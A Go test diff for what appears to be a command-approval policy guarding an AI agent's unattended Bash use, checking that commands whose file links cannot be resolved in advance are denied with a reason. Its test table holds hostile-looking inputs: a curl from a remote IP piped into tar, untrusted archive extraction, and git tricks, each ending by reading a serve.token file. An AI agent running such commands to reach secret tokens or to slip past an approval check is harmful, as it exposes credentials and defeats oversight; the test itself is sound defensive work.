@@ -163,3 +163,25 @@ func BenchmarkRunTimeSources(b *testing.B) {
 		})
 	}
 }
+
+// TestUnreadTreeNamesItsLimit: where the links a command makes cannot be
+// read, the refusal says why (the limit or the run-time word), not only
+// that the target is unknown.
+func TestUnreadTreeNamesItsLimit(t *testing.T) {
+	f := gitFixture(t)
+	writeArchives(t, f)
+	p := f.load()
+	for cmd, want := range map[string]string{
+		`git checkout $(echo evil) && cat s10/serve.token`:                                            "a revision known only when it runs",
+		`git fetch -q o x; git checkout FETCH_HEAD && cat s10/x`:                                      "FETCH_HEAD does not resolve now",
+		`GIT_DIR=.git git checkout evil && cat s10/serve.token`:                                       "repository or worktree moved",
+		`tar xJf odd.tar.xz && cat x/serve.token`:                                                     "cannot be listed now",
+		`curl -sL http://192.0.2.2/a.tgz | tar xz && cat s9/x`:                                        "from a pipe",
+		`python3 -c 'import tarfile,sys;tarfile.open(sys.argv[1]).extractall()' evil.tar && cat s9/x`: "does not name literally",
+	} {
+		v := p.DecideIn(Unattended, Action{Kind: Shell, Tool: "Bash", Command: cmd, Cwd: f.path("proj"), Snapshots: true})
+		if v.Decision != Deny || !strings.Contains(v.Message, want) {
+			t.Errorf("%q: got %s by %s (%s); want a deny naming %q", cmd, v.Decision, v.Rule, v.Message, want)
+		}
+	}
+}
